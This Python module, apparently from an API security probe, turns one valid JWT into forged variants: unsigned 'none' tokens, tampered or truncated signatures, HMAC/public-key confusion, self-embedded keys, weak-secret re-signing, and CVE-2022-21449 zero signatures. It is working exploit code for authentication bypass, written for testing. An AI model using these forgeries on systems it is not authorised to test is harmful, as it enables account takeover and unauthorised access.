"""Tokens that no API should take, made from one that it takes."""

import base64
import hmac
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ec import ECDSA, EllipticCurvePrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from joserfc.jwk import ECKey, JWKRegistry, OctKey
from msgspec import Struct

from nightlatch.identity.jose.encoding import from_base64url, json_object, to_base64url
from nightlatch.identity.jose.verified import Unsound
from nightlatch.identity.secret_words import DOCUMENTED
from nightlatch.workbench.oauth.probe import weakness
from nightlatch.workbench.oauth.probe.weakness import Weakness
from nightlatch.workbench.tokens.material import NoKey, generate, public_part

CANARY = "nightlatch-canary-7f3a"
"""In claims that no signature holds: an answer that repeats it has read them before checking."""
_DIGESTS = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_DER_ZEROS = bytes.fromhex("3006020100020100")
_RESIGNED = 8
"""Of the likeliest secrets: a token is signed anew with each, and the API asked."""


class Forgery(Struct, frozen=True):
    weakness: Weakness
    how: str
    """In words."""
    token: str

    def __repr__(self) -> str:
        return f"Forgery({self.weakness.id!r}, {self.how!r})"


class Parts(Struct, frozen=True):
    """A signed token, taken apart and not believed."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signed: str
    signature: str

    def __repr__(self) -> str:
        return "Parts(***)"


def take_apart(token: str) -> Parts | None:
    """None for what is no JWT, such as an opaque token."""
    try:
        head, payload, signature = token.split(".")
        header = json_object(from_base64url(head, "header"), "header")
        claims = json_object(from_base64url(payload, "payload"), "payload")
    except (ValueError, Unsound):
        return None
    return Parts(header, claims, f"{head}.{payload}", signature)


def forgeries(parts: Parts, keys: list[dict[str, Any]]) -> Iterator[Forgery]:
    """`keys` are the issuer's public ones."""
    yield from _unsigned(parts)
    yield from _spoilt(parts)
    yield from _confused(parts, keys)
    yield from _own_keys(parts)
    yield from _psychic(parts)
    empty = with_secret(parts, b"", {})
    yield Forgery(weakness.EMPTY, "signed HS256 with nothing for a secret", empty)
    for word in DOCUMENTED[:_RESIGNED]:
        token = with_secret(parts, word.encode(), {})
        yield Forgery(weakness.WEAK, "signed HS256 with a common word", token)


def with_secret(parts: Parts, secret: bytes, header: dict[str, Any]) -> str:
    """The same claims, signed HS256, or as the header says."""
    whole = {**parts.header, "alg": "HS256", **header}
    signed = f"{packed(whole)}.{packed(parts.claims)}"
    value = hmac.digest(secret, signed.encode(), _DIGESTS[whole["alg"]])
    return f"{signed}.{to_base64url(value).decode()}"


def _same_hash(parts: Parts) -> str:
    name = "HS" + str(parts.header.get("alg"))[-3:]
    return name if name in _DIGESTS else "HS256"


def _unsigned(parts: Parts) -> Iterator[Forgery]:
    for name in ("none", "None", "NONE", "nOnE"):
        token = f"{packed({**parts.header, 'alg': name})}.{packed(parts.claims)}."
        yield Forgery(weakness.NONE, f'of alg "{name}", without a signature', token)


def _spoilt(parts: Parts) -> Iterator[Forgery]:
    changed = {**parts.claims, "nightlatch_probe": CANARY}
    head = parts.signed.partition(".")[0]
    yield Forgery(weakness.SIGNATURE, "with another claim under the old signature",
                  f"{head}.{packed(changed)}.{parts.signature}")  # fmt: skip
    turned = ("B" if parts.signature[:1] == "A" else "A") + parts.signature[1:]
    yield Forgery(weakness.SIGNATURE, "with a spoilt signature", f"{parts.signed}.{turned}")
    short = f"{parts.signed}.{parts.signature[:-4]}"
    yield Forgery(weakness.SIGNATURE, "with the last four letters of its signature cut", short)
    yield Forgery(weakness.SIGNATURE, "with its signature cut off", f"{parts.signed}.")


def _confused(parts: Parts, keys: list[dict[str, Any]]) -> Iterator[Forgery]:
    for key in keys:
        for name, secret in _spellings(key):
            for alg in dict.fromkeys(("HS256", _same_hash(parts))):
                token = with_secret(parts, secret, {"alg": alg})
                how = f"signed {alg} with the public key as {name}"
                yield Forgery(weakness.CONFUSION, how, token)


def _spellings(key: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    try:
        public = public_part(key)
        material = JWKRegistry.import_key(key)
    except (NoKey, ValueError):
        return
    if isinstance(material, OctKey):
        return
    pem = material.as_bytes(encoding="PEM", private=False)
    yield "PEM", pem
    yield "PEM without its last line break", pem.strip()
    yield "DER", material.as_bytes(encoding="DER", private=False)
    texts = (json.dumps(key), json.dumps(key, separators=(",", ":")), json.dumps(public))
    for text in dict.fromkeys(texts):
        yield "JWK", text.encode()


def _own_keys(parts: Parts) -> Iterator[Forgery]:
    key = generate("EC")
    header = {name: value for name, value in parts.header.items() if name in ("typ", "kid")}
    for member, value in (("jwk", public_part(key)), ("x5c", _certificate_chain(key))):
        token = signed_by(key, {**header, member: value}, parts.claims)
        yield Forgery(weakness.EMBEDDED, f"signed with a key in its own header ({member})", token)


def signed_by(key: dict[str, Any], header: dict[str, Any], claims: dict[str, Any]) -> str:
    """ES256, with whatever is in the header: a library would refuse what it does not know."""
    signed = f"{packed({'alg': 'ES256', **header})}.{packed(claims)}"
    pair = decode_dss_signature(_signer(key).sign(signed.encode(), ECDSA(SHA256())))
    value = b"".join(number.to_bytes(32, "big") for number in pair)
    return f"{signed}.{to_base64url(value).decode()}"


def _signer(key: dict[str, Any]) -> EllipticCurvePrivateKey:
    signer = ECKey.import_key(key).private_key
    if not isinstance(signer, EllipticCurvePrivateKey):
        raise TypeError("a probe signs with a private key")
    return signer


def _certificate_chain(key: dict[str, Any]) -> list[str]:
    """`x5c` of a private key: one certificate, by itself."""
    signer = _signer(key)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "nightlatch probe")])
    start, end = datetime(2020, 1, 1, tzinfo=UTC), datetime(2049, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder(name, name, signer.public_key(), 1, start, end)
    der = builder.sign(signer, SHA256()).public_bytes(Encoding.DER)
    return [base64.b64encode(der).decode()]


def _psychic(parts: Parts) -> Iterator[Forgery]:
    """CVE-2022-21449: r = s = 0 fits every message where nobody looks at their range."""
    header = {**parts.header, "alg": parts.header.get("alg") or "ES256"}
    if not str(header["alg"]).startswith("ES"):
        header["alg"] = "ES256"
    signed = f"{packed(header)}.{packed(parts.claims)}"
    size = {"ES384": 96, "ES512": 132}.get(str(header["alg"]), 64)
    for name, value in (("zeros", bytes(size)), ("zeros, in DER", _DER_ZEROS)):
        token = f"{signed}.{to_base64url(value).decode()}"
        yield Forgery(weakness.PSYCHIC, f"with a signature of {name}", token)


def packed(document: dict[str, Any]) -> str:
    return to_base64url(json.dumps(document, separators=(",", ":")).encode()).decode()
